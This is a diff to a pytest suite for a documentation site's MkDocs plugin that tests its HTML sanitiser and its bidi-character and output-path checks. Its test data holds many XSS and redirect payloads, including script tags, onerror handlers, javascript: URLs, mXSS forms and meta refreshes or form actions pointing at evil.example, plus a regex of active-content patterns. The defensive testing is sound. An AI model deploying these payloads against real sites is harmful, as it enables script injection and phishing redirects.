@@ -8,6 +8,7 @@ so the failing builds stop within seconds (fast tier).
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -15,7 +16,7 @@ import pytest
 from helpers import ROOT, build_in_process, copy_project
 from mkdocs.exceptions import PluginError
 
-from macros.core import docs_files, front_matter, raw_html
+from macros.core import characters, destinations, docs_files, front_matter, raw_html, sanitize
 from macros.core.data_files import unknown_files
 from macros.core.diagnostics import Problem, annotation
 from macros.core.load import load
@@ -143,6 +144,18 @@ RAW_HTML = [
     '## Heading { onclick="alert(1)" }',
     "<svg><script>alert(1)</script></svg>",
     "<?php system('id'); ?>",
+    # issue 31: escaped backticks are not a code span (Markdown renders the tag), browsers' comment ends,
+    # attr_list lists that start with a bare word
+    "说明 \\`<script>alert(document.domain)</script>\\` 完。",
+    '说明 \\`<meta http-equiv="refresh" content="0; url=https://evil.example/">\\` 完。',
+    '<!--> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->',
+    '<!---> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->',
+    '<!-- x --!> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->',
+    '[Official text](https://www.gov.cn/){ x href="https://evil.example/" }',
+    '[Official text](https://www.gov.cn/){ x onclick="alert(1)" }',
+    '[Official text](https://www.gov.cn/){: x style="position:fixed" }',
+    "Text. { x onmouseover=alert(1) }",
+    "Text <mailto:z/hidden> and the rest of the paragraph, hidden.",
 ]
 
 
@@ -161,8 +174,10 @@ def test_hostile_raw_html_is_refused_at_its_line(html):
         "```html\n<script>alert(1)</script>\n```",
         '<div class="kb-ws-field" markdown="1">\n<label for="a">A</label><input id="a" name="a" type="text">\n</div>',
         '<form class="kb-worksheet" data-kb-worksheet novalidate data-msg-min="{{ label("x") }}">',
-        "See <https://example.org/> and [a link](https://example.org/).",
+        "See <https://example.org/>, <mailto:a@example.org>, <a@example.org> and [a link](https://example.org/).",
         "## Heading { #anchor .class }",
+        "Escaped \\`backticks\\` and `<script>` in code, ``a ` b``, `` `<div onclick=x>` ``",
+        "<!-- a comment --> text <!-- another -- still a comment -->",
     ],
 )
 def test_the_html_the_pages_use_passes(text):
@@ -268,6 +283,14 @@ BUILDS = [
     ("raw HTML", "docs/en/about/index.md", None, lambda t: t + '\n<meta http-equiv="refresh" content="0; url=https://example.org/">\n'),
     ("macro argument", "docs/en/about/index.md", None, lambda t: t + '\n{{ cite("no-such") }}\n'),
     ("alias bomb", "docs/en/about/index.md", 2, lambda t: t.replace("---\n", "---\na: &a [x, x, x]\nb: [*a, *a]\n", 1)),
+    # issue 31, caught early by the source checks (the sanitiser's own build test is further down)
+    ("escaped backticks", "docs/zh/about/index.md", None,
+     lambda t: t + "\n说明 \\`<script>alert(document.domain)</script>\\` 完。\n"),
+    ("comment forms", "docs/zh/about/index.md", None,
+     lambda t: t + '\n<!-- x --!> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->\n'),
+    ("attr_list bare word", "docs/en/about/index.md", None,
+     lambda t: t + '\n[Official text](https://www.gov.cn/){ x href="https://evil.example/" }\n'),
+    ("bidi override", "docs/zh/about/index.md", None, lambda t: t + "\n金额 \u202e0012\u202c 元。\n"),
 ]
 
 
@@ -371,3 +394,224 @@ def test_a_macro_that_fails_while_rendering_ends_the_build_with_one_located_erro
     with pytest.raises(PluginError, match=r"docs/en/x\.md: broken\(\): KeyError\('nope'\)"):
         entry._call(env, kb, "broken", broken, "a")
     assert any(r.levelname == "ERROR" and "docs/en/x.md" in r.getMessage() for r in caplog.records)
+
+
+# -- 8. the rendered pages: the sanitiser is the boundary (issue 31) -----------------------------
+ACTIVE = re.compile(
+    r"<script|<meta|<iframe|<object|<embed|<base|<style|<link|<svg[^>]*\son|\son[a-z]+\s*=|\sstyle\s*=|javascript:|"
+    r"vbscript:|data:text|srcdoc|formaction|\saction\s*=|=\"[^\"]*evil\.example",
+    re.IGNORECASE,
+)
+# What the site renders today, in small, as the sanitiser serialises it: each must pass unchanged.
+RENDERED = [
+    '<h2 id="a">A<a class="headerlink" href="#a" title="Permanent link">¶</a></h2>',
+    ('<table class="kb-table"><thead><tr><th align="left" scope="col">A</th></tr></thead>'
+    '<tbody><tr><td align="right" data-label="A">1</td></tr></tbody></table>'),
+    '<div class="admonition note"><p class="admonition-title">Note</p><p>x</p></div>',
+    '<details class="kb-more"><summary>More</summary><p>x</p></details>',
+    ('<p><a href="https://www.gov.cn/">x</a> <a href="mailto:a@example.org">m</a> <a href="tel:+8675512345">t</a> '
+    '<a href="../x/#y">r</a> <a href="/knowledge-base/downloads/x.csv" download="">d</a></p>'),
+    '<p><img alt="x" src="images/a.png" width="10" height="10" loading="lazy"></p>',
+    ('<form class="kb-worksheet" data-kb-worksheet="" novalidate="" data-msg-min="Too small">'
+    '<fieldset class="kb-ws-section" data-section="a"><legend>A</legend>'
+    '<label for="c">C</label><input id="c" name="c" type="text" inputmode="decimal" data-min="0" '
+    'aria-describedby="c-help"><output id="o" name="o" data-formula="c * 2" data-decimals="0"></output>'
+    '<button type="button" data-action="reset">Reset</button></fieldset></form>'),
+    ('<figure class="kb-chart"><svg xmlns="http://www.w3.org/2000/svg" class="kb-chart-svg" role="img" '
+    'aria-labelledby="t" viewBox="0 0 10 10" width="10" height="10"><title id="t">T</title><desc id="d">D</desc>'
+    '<defs><marker id="m" viewBox="0 0 8 8" refX="7" refY="4" markerWidth="7" markerHeight="7" orient="auto">'
+    '<path class="kb-chart-arrow" d="M0 0L8 4L0 8z"></path></marker></defs><g class="e"><path d="M1 1" '
+    'marker-end="url(#m)"></path><rect x="1" y="1" width="2" height="2" rx="1" fill="url(#p)"></rect>'
+    '<text x="1" y="2" font-size="12" text-anchor="middle"><tspan x="1" dy="1.3em">a</tspan></text></g></svg>'
+    "<figcaption>c</figcaption></figure>"),
+]
+
+
+@pytest.mark.parametrize("html", RENDERED)
+def test_what_the_site_renders_passes_the_sanitiser_unchanged(html):
+    result = sanitize.check(html)
+    assert result.removed == [], result.removed
+    assert result.html == html
+
+
+# Each payload of the issue (and more) as Markdown renders it; what the sanitiser must name.
+HOSTILE_RENDERED = [
+    ("<p>说明 `<script>alert(document.domain)</script>` 完。</p>", "the element <script>"),
+    ('<p><!--> <meta http-equiv="refresh" content="0; url=https://evil.example/"> --></p>', "the element <meta>"),
+    ('<!-- x --!> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->', "the element <meta>"),
+    ('<p><a href="https://www.gov.cn/" x="x">Official text</a></p>', "the attribute 'x' on <a>"),
+    ('<p><a href="https://www.gov.cn/" onclick="alert(1)">x</a></p>', "the attribute 'onclick' on <a>"),
+    ('<p style="position:fixed;inset:0">x</p>', "the attribute 'style' on <p>"),
+    ("<p>ok <mailto:z/hidden> the rest of the paragraph</p>", "the element <mailto:z>"),
+    ('<a href="jav&#x61;script:alert(1)">x</a>', "'javascript:' URL"),
+    ('<a href="java\tscript:alert(1)">x</a>', "'javascript:' URL"),
+    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', "'data:' URL"),
+    ('<img src="https://evil.example/pixel.png" alt="">', "a picture from another site"),
+    ('<img src="x" onerror="alert(1)">', "the attribute 'onerror' on <img>"),
+    ('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "'javascript:' URL"),
+    ('<svg onload="alert(1)"></svg>', "the attribute 'onload' on <svg>"),
+    ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "the element <animate>"),
+    ('<svg><rect fill="url(https://evil.example/#x)"/></svg>', "a url(…) reference"),
+    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "the element <math>"),
+    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "the element <noscript>"),
+    ('<form action="https://evil.example/"><input name="password"></form>', "the attribute 'action' on <form>"),
+    ('<button formaction="https://evil.example/">x</button>', "the attribute 'formaction' on <button>"),
+    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "the element <iframe>"),
+    ('<base href="https://evil.example/">', "the element <base>"),
+    ('<link rel="stylesheet" href="https://evil.example/x.css">', "the element <link>"),
+    ('<div id="__config">{"base": "https://evil.example/"}</div>', "an id starting with '__'"),
+    ('<p data-md-color-media="x">x</p>', "a data-md-* attribute"),
+    ('<p dir="rtl">0012</p>', "the attribute 'dir' on <p>"),
+]
+
+
+@pytest.mark.parametrize(("html", "expected"), HOSTILE_RENDERED)
+def test_hostile_rendered_html_is_named_and_nothing_active_is_kept(html, expected):
+    result = sanitize.check(html)
+    assert any(expected in r.message for r in result.removed), result.removed
+    assert not ACTIVE.search(result.html), result.html
+
+
+def test_the_sanitisers_findings_are_located_in_the_source():
+    source = raw_html.visible_source(
+        "---\ntitle: x\n---\n\n# X <!-- x -->\n\n[Official](https://a.cn/){ x href=\"y\" }\n\n<SCRIPT>1</SCRIPT>\n"
+        "\n`<script>` in code\n\n<a href=\"jav&#x61;script:1\">a</a> <a href=\"https://x/\">b</a>\n"
+    )
+    def lines(message: str, needles: tuple[str, ...], everywhere: bool = False) -> list[int | None]:
+        return sanitize.lines_of(source, sanitize.Removal(message, needles, everywhere))
+
+    assert lines("x", sanitize._attribute("x", "x")) == [7]
+    assert lines("script", sanitize._element("script"), everywhere=True) == [9]
+    assert lines("meta", sanitize._element("meta"), everywhere=True) == [None]  # written by a macro: file only
+    assert lines("href", sanitize._attribute("href", "javascript:1")) == [None]  # on lines 7 and 13
+
+
+@pytest.mark.parametrize(
+    ("markdown", "refused"),
+    [
+        ('[Official text](https://www.gov.cn/){ x href="https://evil.example/" }', {"x", "href"}),
+        ("[a](https://www.gov.cn/){ onclick=alert(1) style='color:red' }", {"onclick", "style"}),
+        ("## Heading { #h .c onmouseover=x }", {"onmouseover"}),
+        ("## Heading { #h .c }", set()),
+    ],
+)
+def test_attr_list_sets_only_the_allowed_attributes(markdown, refused):
+    import markdown as md_lib
+
+    from macros.plugin.attr_list_guard import AttrListGuard
+
+    html = md_lib.markdown(markdown, extensions=["attr_list", AttrListGuard()])
+    result = sanitize.check(html)
+    assert {r.message.split("'")[1] for r in result.removed} == refused, result.removed
+    assert "evil.example" not in result.html
+    assert "https://www.gov.cn/" in result.html or "<h2" in result.html
+
+
+# The issue's payloads on one Chinese page, with the source checks switched off: the sanitiser alone
+# must refuse each (file and line) and the build must write nothing of them.
+SANITISER_BUILD = [
+    ("说明 \\`<script>alert(document.domain)</script>\\` 完。", "the element <script>"),
+    ('<!--> <meta http-equiv="refresh" content="0; url=https://evil.example/"> -->', "the element <meta>"),
+    ("[Official text](https://www.gov.cn/){ x href=\"https://evil.example/\" }",
+     "the attribute 'href' set with { … } on <a>"),
+    ("[a](https://www.gov.cn/){ x onclick=\"alert(1)\" }", "the attribute 'onclick' set with { … } on <a>"),
+    ('<p style="position:fixed">x</p>', "the attribute 'style' on <p>"),
+]
+
+
+def test_the_sanitiser_refuses_what_the_source_checks_miss(tmp_path, monkeypatch):
+    monkeypatch.setattr(raw_html, "check_docs", lambda docs: [])  # as if a source check had a hole
+    monkeypatch.setenv("KB_ONLY_LANGUAGE", "zh")  # the page under attack, built alone (as `make serve lang=zh`)
+    monkeypatch.setenv("KB_GIT_DATES", "false")
+    project = copy_project(tmp_path / "p")
+    page = project / "docs" / "zh" / "about" / "index.md"
+    text = page.read_text(encoding="utf-8").rstrip("\n") + "\n"
+    lines = {}
+    for payload, _ in SANITISER_BUILD:
+        text += "\n" + payload + "\n"
+        lines[payload] = text.count("\n")
+    page.write_text(text, encoding="utf-8")
+    result = build_in_process(project, tmp_path / "out")
+    assert result.returncode != 0
+    assert "Traceback" not in result.stderr
+    for payload, expected in SANITISER_BUILD:
+        assert f"docs/zh/about/index.md:{lines[payload]}: {expected}" in result.stderr, result.stderr[-3000:]
+    assert not list((tmp_path / "out").rglob("index.html")), "no page is written once a body is refused"
+    written = [
+        p for p in (tmp_path / "out").rglob("*.html")
+        if ACTIVE.search(body := _body(p.read_text(encoding="utf-8"))) or "evil.example" in body
+    ]
+    assert not written, written[:5]
+
+
+def _body(html: str) -> str:
+    """The page's <article> (the theme around it holds its own scripts and meta tags)."""
+    start = html.find("<article")
+    return html[start: html.find("</article>", start)] if start >= 0 else ""
+
+
+# -- 9. bidirectional and invisible characters in pages (data: tests/test_security.py) ------------
+@pytest.mark.parametrize("char", ["\u061c", "\u200b", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066", "\u2069"])
+def test_bidi_and_invisible_characters_are_refused_in_pages(docs, char):
+    page = docs / "zh" / "about.md"
+    page.write_text(f"---\ndescription: 关于{char}。\n---\n\n# About\n\n金额 {char}0012 元。\n", encoding="utf-8")
+    problems = characters.check_docs(docs)
+    assert [(p.file, p.line) for p in problems] == [("docs/zh/about.md", 2), ("docs/zh/about.md", 7)], problems
+    assert f"U+{ord(char):04X}" in problems[0].message
+
+
+def test_the_pages_hold_no_bidi_or_invisible_character():
+    assert characters.check_docs(ROOT / "docs") == []
+
+
+def test_a_bidi_override_in_a_page_fails_the_build(tmp_path):
+    project = copy_project(tmp_path / "p")
+    page = project / "docs" / "en" / "about" / "index.md"
+    text = page.read_text(encoding="utf-8").rstrip("\n") + "\n\nThe amount is \u202e0012\u202c yuan.\n"
+    page.write_text(text, encoding="utf-8")
+    result = build_in_process(project, tmp_path / "out")
+    assert result.returncode != 0
+    line = text.count("\n")
+    assert f"docs/en/about/index.md:{line}: the text holds a bidirectional control (U+202E)" in result.stderr
+
+
+# -- 10. pages written where another page or a generator writes ------------------------------------
+def test_an_address_written_twice_or_by_a_generator_is_named_with_both_writers():
+    problems = destinations.clashes(
+        [
+            ("changes/index.html", "docs/en/changes.md", True),
+            ("changes/index.html", "docs/en/changes/index.md", True),
+            ("zh/go/plan-buyers/index.html", "docs/zh/go/plan-buyers.md", True),
+            ("zh/search/index.html", "docs/zh/search.md", True),
+            ("assets/javascripts/kb.js", "the theme's assets/javascripts/kb.js", False),
+            ("zh/guides/x/index.html", "docs/zh/guides/x.md", True),
+        ],
+        "zh/",
+    )
+    assert [str(p) for p in problems] == [
+        ("docs/en/changes/index.md: the page is written to changes/index.html, where docs/en/changes.md is written; "
+        "rename or move one of them"),
+        ("docs/zh/go/plan-buyers.md: the page is written to zh/go/plan-buyers/index.html, where the build writes the "
+        "short links (macros/plugin/kit.py); move the page elsewhere"),
+        ("docs/zh/search.md: the page is written to zh/search/index.html, where the build writes the search index "
+        "(the search plugin and macros/plugin/i18n.py); move the page elsewhere"),
+    ]
+
+
+def test_a_page_over_a_generated_page_fails_the_build_naming_both(tmp_path):
+    project = copy_project(tmp_path / "p")
+    for lang in ("en", "zh"):
+        (project / "docs" / lang / "changes").mkdir()
+        (project / "docs" / lang / "changes" / "index.md").write_text("# Changes\n\nNone.\n", encoding="utf-8")
+        (project / "docs" / lang / "go").mkdir()
+        (project / "docs" / lang / "go" / "plan-buyers.md").write_text("# Go\n\nElsewhere.\n", encoding="utf-8")
+    result = build_in_process(project, tmp_path / "out")
+    assert result.returncode != 0
+    assert "docs/en/changes/index.md: the page is written to changes/index.html, where docs/en/changes.md" in (
+        result.stderr
+    )
+    assert "docs/en/go/plan-buyers.md: the page is written to go/plan-buyers/index.html, where the build writes" in (
+        result.stderr
+    )
+    assert "Traceback" not in result.stderr
+    assert not (tmp_path / "out" / "changes" / "index.html").exists()
